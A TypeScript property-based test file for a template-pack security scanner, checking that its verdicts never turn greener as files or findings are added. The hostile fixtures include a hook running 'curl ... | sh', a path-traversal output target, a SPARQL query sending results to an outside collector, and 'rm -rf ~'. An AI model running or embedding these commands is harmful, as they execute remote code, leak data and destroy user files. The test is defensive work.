import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type ReportParts, type Verdict, createReport, reportJson } from "../../src/core/report.ts";
import { treeOf } from "../../src/core/tree.ts";
import { MANIFEST, scanTree } from "./scan.ts";

/** Files, some of them hostile. */
const parts: Readonly<Record<string, string>> = {
  "templates/hook.tmpl": "---\nto: a.txt\nsh_after: curl https://get.example/x | sh\n---\nHello\n",
  "templates/path.tmpl": "---\nto: ../../a.txt\n---\nHello\n",
  "templates/good.tmpl": "---\nto: src/a.txt\n---\nHello {{ name }}\n",
  "queries/a.rq": "SELECT ?s WHERE { SERVICE <https://collect.example/> { ?s ?p ?o } }",
  "queries/good.rq": "SELECT ?s WHERE { ?s ?p ?o }",
  "scripts/clean.sh": "#!/bin/sh\nrm -rf ~\n",
  "scripts/good.sh": "#!/bin/sh\nls\n",
  "data/a.ttl": '@prefix ex: <https://example.org/> .\nex:a ex:b "c" .\n',
  "data/long.txt": "x".repeat(1_100_000),
};
const names = Object.keys(parts);
const some = fc.subarray(names, { minLength: 1 });

function filesOf(chosen: readonly string[]): Readonly<Record<string, string>> {
  return { "gpack.toml": MANIFEST, ...Object.fromEntries(chosen.map((name) => [name, parts[name] ?? ""])) };
}

function judged(chosen: readonly string[], change: Partial<ReportParts> = {}): { verdict: Verdict; json: string } {
  const { findings, coverage, packs } = scanTree(treeOf(filesOf(chosen)));
  const subject = { kind: "tree" } as const;
  const report = createReport({
    version: "0",
    ruleSet: "",
    policy: null,
    subject,
    failOn: "error",
    findings,
    coverage,
    packs,
    ...change,
  });
  return { verdict: report.verdict, json: reportJson(report) };
}

const rank: Readonly<Record<Verdict, number>> = { pass: 0, incomplete: 1, fail: 2 };

describe("the verdict of a scan", () => {
  test("never turns greener by a file more", () => {
    fc.assert(
      fc.property(some, fc.constantFrom(...names), (chosen, more) => {
        const before = judged(chosen).verdict;
        const after = judged([...new Set([...chosen, more])]).verdict;
        expect(rank[after]).toBeGreaterThanOrEqual(rank[before]);
      }),
      { numRuns: 40 },
    );
  });

  test("never turns greener by a finding more, and says the same bytes in any order and for findings made twice", () => {
    fc.assert(
      fc.property(some, fc.nat(), (chosen, seed) => {
        const { findings } = scanTree(treeOf(filesOf(chosen)));
        const kept = findings.filter((_, at) => (seed >> (at % 20)) % 2 === 0);
        expect(rank[judged(chosen, { findings: kept }).verdict]).toBeLessThanOrEqual(rank[judged(chosen).verdict]);
        expect(judged(chosen, { findings: findings.toReversed() }).json).toBe(judged(chosen).json);
        expect(judged(chosen.toReversed()).json).toBe(judged(chosen).json);
        expect(judged(chosen, { findings: [...findings, ...findings] }).verdict).toBe(judged(chosen).verdict);
      }),
      { numRuns: 40 },
    );
  });

  test("never turns green by a file that cannot be read, nor by one that is too large", () => {
    fc.assert(
      fc.property(some, fc.constantFrom(...names), (chosen, hidden) => {
        const tree = treeOf(filesOf([...new Set([...chosen, hidden])]));
        const outcome = scanTree({ ...tree, read: (path) => (path === hidden ? { reason: "no" } : tree.read(path)) });
        expect(outcome.coverage.gaps.map(({ file }) => file)).toContain(hidden);
        expect(judged([], { findings: outcome.findings, coverage: outcome.coverage }).verdict).not.toBe("pass");
      }),
      { numRuns: 40 },
    );
    const large = treeOf({ "gpack.toml": MANIFEST, "data/large.bin": new Uint8Array(17 * 1024 * 1024) });
    expect(scanTree(large).coverage.gaps).toEqual([
      { file: "data/large.bin", reason: "the file has 17825792 bytes, of which no more than 16777216 are scanned" },
    ]);
  });

  test("of nothing is incomplete", () => {
    const { findings, coverage, packs } = scanTree(treeOf({}));
    const subject = { kind: "tree" } as const;
    expect(
      createReport({ version: "0", ruleSet: "", policy: null, subject, failOn: "error", findings, coverage, packs })
        .verdict,
    ).toBe("incomplete");
  });
});
